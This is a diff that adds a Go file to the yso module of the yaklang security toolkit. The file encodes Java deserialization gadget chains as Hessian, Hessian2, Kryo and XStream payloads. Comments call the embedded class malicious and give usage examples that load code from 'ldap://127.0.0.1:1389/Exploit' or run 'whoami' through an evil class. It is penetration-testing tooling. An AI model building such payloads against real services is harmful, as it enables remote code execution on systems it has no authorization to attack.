@@ -0,0 +1,509 @@
+package yso
+
+import (
+	"encoding/base64"
+	"strconv"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/javaclassparser"
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yserx"
+)
+
+// 与原生序列化不同，Hessian / Kryo / XStream 不依赖 serialVersionUID 与类描述，
+// 所以这里用一个与格式无关的对象树描述 gadget，再分别转换为各个格式
+
+const (
+	MarshalFormatHessian  = "hessian"
+	MarshalFormatHessian2 = "hessian2"
+	MarshalFormatKryo     = "kryo"
+	MarshalFormatXStream  = "xstream"
+)
+
+const (
+	MV_NULL = iota
+	MV_STRING
+	MV_INT
+	MV_LONG
+	MV_BOOL
+	MV_BYTES
+	MV_CLASS
+	MV_ARRAY
+	MV_LIST
+	MV_MAP
+	MV_OBJECT
+)
+
+// MarshalValue 是一个 Java 对象，MV_CLASS 的类名保存在 String 中
+type MarshalValue struct {
+	Kind      int
+	ClassName string
+
+	String string
+	Int    int64
+	Bool   bool
+	Bytes  []byte
+
+	Fields  []*MarshalField
+	Entries []*MarshalEntry
+	Items   []*MarshalValue
+
+	// Custom 表示类实现了 writeObject，XStream 会以 serialization="custom" 写出，Extra 为 writeObject 额外写出的数据
+	Custom bool
+	Extra  []*MarshalValue
+}
+
+// MarshalField 是对象的一个非 transient 字段，Type 为声明类型
+type MarshalField struct {
+	Name  string
+	Type  string
+	Value *MarshalValue
+}
+
+type MarshalEntry struct {
+	Key   *MarshalValue
+	Value *MarshalValue
+}
+
+type MarshalGadgetInfo struct {
+	Name    string
+	Help    string
+	Formats []string
+}
+
+// MarshalObject 是 Hessian / Kryo / XStream 的 gadget，Class 为需要远程加载或内嵌的恶意类
+type MarshalObject struct {
+	Root    *MarshalValue
+	Class   *javaclassparser.ClassObject
+	verbose *MarshalGadgetInfo
+}
+
+func (m *MarshalObject) Verbose() *MarshalGadgetInfo {
+	return m.verbose
+}
+
+func (m *MarshalObject) supportFormat(format string) error {
+	if m.verbose == nil {
+		return nil
+	}
+	for _, f := range m.verbose.Formats {
+		if f == format {
+			return nil
+		}
+	}
+	return utils.Errorf("gadget %v does not support %v, available: %v", m.verbose.Name, format, strings.Join(m.verbose.Formats, ", "))
+}
+
+func (m *MarshalObject) defaultFormat() string {
+	if m.verbose == nil || len(m.verbose.Formats) == 0 {
+		return MarshalFormatHessian2
+	}
+	return m.verbose.Formats[0]
+}
+
+// Bytes 以 gadget 支持的第一种格式编码
+func (m *MarshalObject) Bytes() ([]byte, error) {
+	switch m.defaultFormat() {
+	case MarshalFormatHessian:
+		return ToHessianBytes(m)
+	case MarshalFormatKryo:
+		return ToKryoBytes(m)
+	case MarshalFormatXStream:
+		xml, err := ToXStreamXML(m)
+		return []byte(xml), err
+	default:
+		return ToHessian2Bytes(m)
+	}
+}
+
+// Json 以 gadget 支持的第一种格式对应的 yserx JSON 表示
+func (m *MarshalObject) Json() (string, error) {
+	var (
+		raw []byte
+		err error
+	)
+	switch m.defaultFormat() {
+	case MarshalFormatKryo:
+		raw, err = yserx.KryoToJson([]*yserx.KryoValue{m.Root.ToKryoValue()})
+	case MarshalFormatXStream:
+		raw, err = yserx.XStreamToJson(m.Root.ToXStreamNode())
+	default:
+		raw, err = yserx.HessianToJson([]*yserx.HessianValue{m.Root.ToHessianValue()})
+	}
+	if err != nil {
+		return "", err
+	}
+	return string(raw), nil
+}
+
+func newMarshalNull() *MarshalValue {
+	return &MarshalValue{Kind: MV_NULL}
+}
+
+func newMarshalString(s string) *MarshalValue {
+	return &MarshalValue{Kind: MV_STRING, String: s}
+}
+
+func newMarshalInt(i int) *MarshalValue {
+	return &MarshalValue{Kind: MV_INT, Int: int64(i)}
+}
+
+func newMarshalBool(b bool) *MarshalValue {
+	return &MarshalValue{Kind: MV_BOOL, Bool: b}
+}
+
+func newMarshalBytes(raw []byte) *MarshalValue {
+	return &MarshalValue{Kind: MV_BYTES, Bytes: raw}
+}
+
+func newMarshalClass(className string) *MarshalValue {
+	return &MarshalValue{Kind: MV_CLASS, String: className}
+}
+
+func newMarshalList(className string, items ...*MarshalValue) *MarshalValue {
+	return &MarshalValue{Kind: MV_LIST, ClassName: className, Items: items}
+}
+
+func newMarshalMap(className string, entries ...*MarshalEntry) *MarshalValue {
+	return &MarshalValue{Kind: MV_MAP, ClassName: className, Entries: entries}
+}
+
+func newMarshalObject(className string, fields ...*MarshalField) *MarshalValue {
+	return &MarshalValue{Kind: MV_OBJECT, ClassName: className, Fields: fields}
+}
+
+func newMarshalField(name, typ string, value *MarshalValue) *MarshalField {
+	if value == nil {
+		value = newMarshalNull()
+	}
+	return &MarshalField{Name: name, Type: typ, Value: value}
+}
+
+// runtimeClass 返回值的运行时类名
+func (v *MarshalValue) runtimeClass() string {
+	switch v.Kind {
+	case MV_STRING:
+		return "java.lang.String"
+	case MV_INT:
+		return "java.lang.Integer"
+	case MV_LONG:
+		return "java.lang.Long"
+	case MV_BOOL:
+		return "java.lang.Boolean"
+	case MV_BYTES:
+		return "[B"
+	case MV_CLASS:
+		return "java.lang.Class"
+	default:
+		return v.ClassName
+	}
+}
+
+// ToHessianValue 转换为 Hessian 值，Hessian 与 Hessian2 共用同一棵树
+func (v *MarshalValue) ToHessianValue() *yserx.HessianValue {
+	if v == nil {
+		return yserx.NewHessianNull()
+	}
+	switch v.Kind {
+	case MV_STRING:
+		return yserx.NewHessianString(v.String)
+	case MV_INT:
+		return yserx.NewHessianInt(int32(v.Int))
+	case MV_LONG:
+		return yserx.NewHessianLong(v.Int)
+	case MV_BOOL:
+		return yserx.NewHessianBool(v.Bool)
+	case MV_BYTES:
+		return yserx.NewHessianBinary(v.Bytes)
+	case MV_CLASS:
+		// ClassSerializer 把 Class 写为只有 name 字段的对象
+		return yserx.NewHessianObject("java.lang.Class").AddField("name", yserx.NewHessianString(v.String))
+	case MV_ARRAY:
+		list := yserx.NewHessianList(hessianArrayType(v.ClassName))
+		for _, item := range v.Items {
+			list.AddItem(item.ToHessianValue())
+		}
+		return list
+	case MV_LIST:
+		// ArrayList 不写类型，其他集合写出类名
+		className := v.ClassName
+		if className == "java.util.ArrayList" {
+			className = ""
+		}
+		list := yserx.NewHessianList(className)
+		for _, item := range v.Items {
+			list.AddItem(item.ToHessianValue())
+		}
+		return list
+	case MV_MAP:
+		className := v.ClassName
+		if className == "java.util.HashMap" {
+			className = ""
+		}
+		m := yserx.NewHessianMap(className)
+		for _, entry := range v.Entries {
+			m.AddEntry(entry.Key.ToHessianValue(), entry.Value.ToHessianValue())
+		}
+		return m
+	case MV_OBJECT:
+		obj := yserx.NewHessianObject(v.ClassName)
+		for _, field := range v.Fields {
+			obj.AddField(field.Name, field.Value.ToHessianValue())
+		}
+		return obj
+	default:
+		return yserx.NewHessianNull()
+	}
+}
+
+// hessianArrayType 与 Hessian 的 ArraySerializer 一致，例如 [[B => [[byte，[Ljava.lang.String; => [string
+func hessianArrayType(className string) string {
+	if !strings.HasPrefix(className, "[") {
+		switch className {
+		case "java.lang.String":
+			return "string"
+		case "java.lang.Object":
+			return "object"
+		case "java.util.Date":
+			return "date"
+		}
+		return className
+	}
+	component := className[1:]
+	switch {
+	case strings.HasPrefix(component, "["):
+		return "[" + hessianArrayType(component)
+	case strings.HasPrefix(component, "L") && strings.HasSuffix(component, ";"):
+		return "[" + hessianArrayType(component[1:len(component)-1])
+	}
+	primitives := map[string]string{
+		"Z": "boolean", "B": "byte", "C": "char", "S": "short",
+		"I": "int", "J": "long", "F": "float", "D": "double",
+	}
+	if p, ok := primitives[component]; ok {
+		return "[" + p
+	}
+	return "[" + component
+}
+
+// ToKryoValue 转换为 Kryo 值，同时登记对象的字段布局以便解析
+func (v *MarshalValue) ToKryoValue() *yserx.KryoValue {
+	if v == nil {
+		return yserx.NewKryoNull()
+	}
+	switch v.Kind {
+	case MV_STRING:
+		return yserx.NewKryoString(v.String)
+	case MV_INT:
+		return yserx.NewKryoInt(int32(v.Int))
+	case MV_LONG:
+		return yserx.NewKryoLong(v.Int)
+	case MV_BOOL:
+		return yserx.NewKryoBool(v.Bool)
+	case MV_BYTES:
+		return yserx.NewKryoBytes(v.Bytes)
+	case MV_CLASS:
+		return yserx.NewKryoClass(v.String)
+	case MV_ARRAY:
+		arr := yserx.NewKryoArray(v.ClassName)
+		for _, item := range v.Items {
+			arr.Items = append(arr.Items, item.ToKryoValue())
+		}
+		return arr
+	case MV_LIST:
+		list := yserx.NewKryoCollection(v.ClassName)
+		for _, item := range v.Items {
+			list.Items = append(list.Items, item.ToKryoValue())
+		}
+		return list
+	case MV_MAP:
+		m := yserx.NewKryoMap(v.ClassName)
+		for _, entry := range v.Entries {
+			m.AddEntry(entry.Key.ToKryoValue(), entry.Value.ToKryoValue())
+		}
+		return m
+	case MV_OBJECT:
+		obj := yserx.NewKryoObject(v.ClassName)
+		var schema []*yserx.KryoFieldSchema
+		for _, field := range v.Fields {
+			obj.AddField(field.Name, field.Type, field.Value.ToKryoValue())
+			schema = append(schema, &yserx.KryoFieldSchema{Name: field.Name, Type: field.Type})
+		}
+		yserx.RegisterKryoClass(v.ClassName, schema...)
+		return obj
+	default:
+		return yserx.NewKryoNull()
+	}
+}
+
+var xstreamAliases = map[string]string{
+	"java.lang.String":        "string",
+	"java.lang.Integer":       "int",
+	"java.lang.Long":          "long",
+	"java.lang.Boolean":       "boolean",
+	"java.lang.Class":         "java-class",
+	"java.util.HashMap":       "map",
+	"java.util.ArrayList":     "list",
+	"java.util.HashSet":       "set",
+	"java.util.Hashtable":     "hashtable",
+	"java.util.Vector":        "vector",
+	"java.util.Properties":    "properties",
+	"java.util.LinkedList":    "linked-list",
+	"java.util.LinkedHashMap": "linked-hash-map",
+	"java.util.LinkedHashSet": "linked-hash-set",
+	"java.util.TreeMap":       "tree-map",
+	"java.util.TreeSet":       "tree-set",
+	"[B":                      "byte-array",
+	"[Ljava.lang.Object;":     "object-array",
+	"[Ljava.lang.String;":     "string-array",
+}
+
+// XStream 在声明类型为接口时使用的默认实现，与默认实现相同时不写出 class 属性
+var xstreamDefaultImplementations = map[string]string{
+	"java.util.Map":        "java.util.HashMap",
+	"java.util.List":       "java.util.ArrayList",
+	"java.util.Set":        "java.util.HashSet",
+	"java.util.Collection": "java.util.ArrayList",
+	"java.util.SortedSet":  "java.util.TreeSet",
+	"java.util.SortedMap":  "java.util.TreeMap",
+	"int":                  "java.lang.Integer",
+	"long":                 "java.lang.Long",
+	"boolean":              "java.lang.Boolean",
+}
+
+// xstreamAlias 与 XStream 默认 mapper 一致，数组为 <元素别名>-array
+func xstreamAlias(className string) string {
+	if alias, ok := xstreamAliases[className]; ok {
+		return alias
+	}
+	if strings.HasPrefix(className, "[") {
+		component := className[1:]
+		if strings.HasPrefix(component, "L") && strings.HasSuffix(component, ";") {
+			component = component[1 : len(component)-1]
+		}
+		return xstreamAlias(component) + "-array"
+	}
+	return className
+}
+
+// ToXStreamNode 转换为 XStream 根元素
+func (v *MarshalValue) ToXStreamNode() *yserx.XStreamNode {
+	return v.toXStreamNode(yserx.XStreamEncodeName(xstreamAlias(v.runtimeClass())), "")
+}
+
+func (v *MarshalValue) toXStreamNode(name string, declared string) *yserx.XStreamNode {
+	if v == nil || v.Kind == MV_NULL {
+		return yserx.NewXStreamNode("null")
+	}
+	node := yserx.NewXStreamNode(name)
+	if declared != "" {
+		runtime := v.runtimeClass()
+		if runtime != declared && xstreamDefaultImplementations[declared] != runtime {
+			node.SetAttribute("class", xstreamAlias(runtime))
+		}
+	}
+	item := func(i *MarshalValue) *yserx.XStreamNode {
+		if i == nil || i.Kind == MV_NULL {
+			return yserx.NewXStreamNode("null")
+		}
+		return i.toXStreamNode(yserx.XStreamEncodeName(xstreamAlias(i.runtimeClass())), "")
+	}
+
+	switch v.Kind {
+	case MV_STRING, MV_CLASS:
+		node.Text = v.String
+	case MV_INT, MV_LONG:
+		node.Text = strconv.FormatInt(v.Int, 10)
+	case MV_BOOL:
+		node.Text = strconv.FormatBool(v.Bool)
+	case MV_BYTES:
+		node.Text = base64.StdEncoding.EncodeToString(v.Bytes)
+	case MV_ARRAY, MV_LIST:
+		for _, i := range v.Items {
+			node.AddChild(item(i))
+		}
+	case MV_MAP:
+		for _, entry := range v.Entries {
+			node.AddChild(yserx.NewXStreamNode("entry", item(entry.Key), item(entry.Value)))
+		}
+	case MV_OBJECT:
+		fields := xstreamFields(v.Fields)
+		if !v.Custom {
+			node.AddChild(fields...)
+			break
+		}
+		// SerializableConverter：<类名><default>字段</default>额外数据</类名>
+		node.SetAttribute("serialization", "custom")
+		custom := yserx.NewXStreamNode(yserx.XStreamEncodeName(xstreamAlias(v.ClassName)))
+		custom.AddChild(yserx.NewXStreamNode("default", fields...))
+		for _, extra := range v.Extra {
+			custom.AddChild(item(extra))
+		}
+		node.AddChild(custom)
+	}
+	return node
+}
+
+// xstreamFields 只写出非 null 的字段
+func xstreamFields(fields []*MarshalField) []*yserx.XStreamNode {
+	var nodes []*yserx.XStreamNode
+	for _, field := range fields {
+		if field.Value == nil || field.Value.Kind == MV_NULL {
+			continue
+		}
+		nodes = append(nodes, field.Value.toXStreamNode(yserx.XStreamEncodeName(field.Name), field.Type))
+	}
+	return nodes
+}
+
+// ToHessianBytes 以 Hessian 1.0 编码 gadget
+// Example:
+// ```
+// obj = yso.GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject("ldap://127.0.0.1:1389/Exploit")~
+// raw = yso.ToHessianBytes(obj)~
+// ```
+func ToHessianBytes(m *MarshalObject) ([]byte, error) {
+	if err := m.supportFormat(MarshalFormatHessian); err != nil {
+		return nil, err
+	}
+	return yserx.MarshalHessian(m.Root.ToHessianValue()), nil
+}
+
+// ToHessian2Bytes 以 Hessian2 编码 gadget，可以直接放入 Dubbo 请求
+// Example:
+// ```
+// obj = yso.GetResinMarshalObject("http://127.0.0.1:8080/", yso.useRuntimeExecEvilClass("whoami"))~
+// raw = yso.ToHessian2Bytes(obj)~
+// ```
+func ToHessian2Bytes(m *MarshalObject) ([]byte, error) {
+	if err := m.supportFormat(MarshalFormatHessian2); err != nil {
+		return nil, err
+	}
+	return yserx.MarshalHessian2(m.Root.ToHessianValue()), nil
+}
+
+// ToKryoBytes 以 Kryo 4 默认配置（开启引用、类未注册）编码 gadget
+// Example:
+// ```
+// obj = yso.GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject("ldap://127.0.0.1:1389/Exploit")~
+// raw = yso.ToKryoBytes(obj)~
+// ```
+func ToKryoBytes(m *MarshalObject) ([]byte, error) {
+	if err := m.supportFormat(MarshalFormatKryo); err != nil {
+		return nil, err
+	}
+	return yserx.MarshalKryo(m.Root.ToKryoValue()), nil
+}
+
+// ToXStreamXML 以 XStream XML 编码 gadget
+// Example:
+// ```
+// obj = yso.GetRomeMarshalObject(yso.useRuntimeExecEvilClass("whoami"))~
+// println(yso.ToXStreamXML(obj)~)
+// ```
+func ToXStreamXML(m *MarshalObject) (string, error) {
+	if err := m.supportFormat(MarshalFormatXStream); err != nil {
+		return "", err
+	}
+	return string(m.Root.ToXStreamNode().Marshal()), nil
+}